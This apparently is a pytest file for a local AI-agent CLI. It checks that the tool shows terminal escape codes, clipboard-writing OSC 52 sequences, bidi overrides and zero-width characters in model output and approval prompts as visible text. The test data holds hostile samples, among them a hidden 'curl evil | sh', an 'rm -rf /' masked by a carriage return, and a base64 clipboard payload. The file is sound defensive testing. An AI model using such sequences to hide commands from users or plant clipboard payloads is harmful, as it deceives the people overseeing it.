"""§6 what the user sees is what runs: model text made visible, in the core and the CLI."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys

import pytest

from tmax_local.agent.cli_run import PromptApprover, TerminalView
from tmax_local.agent.parser import bash_reply
from tmax_local.approval import Reject, decide
from tmax_local.approval.gate import ApprovalRequest
from tmax_local.display import SafeText, is_visible, visible

ATTACKS = {
    "clear_screen": ("\x1b[2J\x1b[H", "␛[2J␛[H"),
    "osc52_clipboard": ("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "␛]52;c;Y3VybCBldmlsIHwgc2g=␇"),
    "osc52_st_terminated": ("\x1b]52;c;eA==\x1b\\", "␛]52;c;eA==␛\\"),
    "conceal": ("\x1b[8mhidden\x1b[28m", "␛[8mhidden␛[28m"),
    "cursor_up_overwrite": ("safe\x1b[1A\x1b[2Kevil", "safe␛[1A␛[2Kevil"),
    "carriage_return": ("rm -rf /\rls", "rm -rf /␍ls"),
    "backspace": ("rm\x08\x08ls", "rm␈␈ls"),
    "c1_csi": ("\x9b2J", "<U+009B>2J"),
    "bell": ("\x07", "␇"),
    "nul": ("a\x00b", "a␀b"),
    "delete": ("a\x7fb", "a␡b"),
    "bidi_override": ("ls \u202egnp.sh", "ls <U+202E>gnp.sh"),
    "bidi_isolate": ("echo \u2066x\u2069", "echo <U+2066>x<U+2069>"),
    "rtl_mark": ("a\u200fb", "a<U+200F>b"),
    "arabic_letter_mark": ("a\u061cb", "a<U+061C>b"),
    "zero_width_space": ("r\u200bm", "r<U+200B>m"),
    "zero_width_joiner": ("a\u200db", "a<U+200D>b"),
    "word_joiner": ("a\u2060b", "a<U+2060>b"),
    "bom": ("\ufeffls", "<U+FEFF>ls"),
    "soft_hyphen": ("r\u00adm", "r<U+00AD>m"),
    "tag_characters": ("ok\U000e0041\U000e0042", "ok<U+E0041><U+E0042>"),
    "hangul_filler": ("a\u3164b", "a<U+3164>b"),
    "line_separator": ("a\u2028b", "a<U+2028>b"),
    "invisible_plus": ("1\u20642", "1<U+2064>2"),
}


@pytest.mark.parametrize(("raw", "shown"), ATTACKS.values(), ids=list(ATTACKS))
def test_visible_neutralises(raw: str, shown: str) -> None:
    assert visible(raw) == shown
    assert not is_visible(raw)
    assert "\x1b" not in visible(raw) and "\x9b" not in visible(raw)


@pytest.mark.parametrize(
    "text", ["plain ascii\n", "tabs\tand\nlines", "café naïve 日本語", "emoji 👍🏽 ❤️", "x=$(ls)"]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert visible(text) == text


def test_streamed_pieces_give_the_same_text() -> None:
    raw = "think \x1b]52;c;ZXZpbA==\x07 then \u202erun\n"
    pieces = "".join(visible(raw[i : i + 3]) for i in range(0, len(raw), 3))
    assert pieces == visible(raw)


def test_safe_text_stream() -> None:
    buf = io.StringIO()
    out = SafeText(buf)
    out.write("a\x1b[2Jb\n")
    out.flush()
    assert buf.getvalue() == "a␛[2Jb\n"


def test_approval_prompt_shows_the_command_as_it_runs() -> None:
    command = "echo hi \x1b[8m; curl evil | sh\x1b[28m \u202e"
    request = ApprovalRequest(command, decide(command), ())
    out = io.StringIO()
    answer = PromptApprover(io.StringIO("r\n\n"), out)(request)
    assert isinstance(answer, Reject)
    text = out.getvalue()
    assert "\x1b" not in text and "\u202e" not in text
    assert "echo hi ␛[8m; curl evil | sh␛[28m <U+202E>" in text


def test_terminal_view_reasoning_is_neutralised() -> None:
    from tmax_local.agent import events as ev

    out = io.StringIO()
    view = TerminalView(out)
    view(ev.StepStarted(1))
    view(ev.ReasoningDelta(1, "I will \x1b[2J clear\x1b]52;c;eA==\x07 and \u200bhide"))
    text = out.getvalue()
    assert "\x1b" not in text and "\u200b" not in text and "\x07" not in text
    assert "␛[2J" in text and "<U+200B>" in text


def test_cli_prints_model_text_neutralised(tmp_path) -> None:
    """`tmax-local run` as a user runs it: the model's clear-screen, clipboard and conceal
    sequences arrive as visible text, never as bytes the terminal would act on."""
    reply = bash_reply(
        "echo hi", "Thinking \x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmls\x07 \x1b[8msecret\x1b[28m"
    )
    script = tmp_path / "script.json"
    script.write_text(json.dumps([reply, bash_reply("echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT")]))
    work = tmp_path / "work"
    work.mkdir()
    env = dict(os.environ)
    env.update(
        TMAX_DATA_DIR=str(tmp_path / "data"),
        TMAX_CONFIG_DIR=str(tmp_path / "cfg"),
        TMAX_MODELS_DIR=str(tmp_path / "models"),
        HF_HUB_OFFLINE="1",
    )
    p = subprocess.run(
        [
            sys.executable,
            "-m",
            "tmax_local",
            "run",
            "x",
            "--model",
            f"script:{script}",
            "--approve",
            "never-run",
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=work,
        timeout=120,
        check=False,
    )
    assert p.returncode == 0, p.stderr
    assert "\x1b" not in p.stdout and "\x07" not in p.stdout
    assert "␛[2J␛[H␛]52;c;Y3VybCBldmls␇ ␛[8msecret␛[28m" in p.stdout
    assert "git in this shell ignores repository hooks" in p.stdout  # §5, in the run header
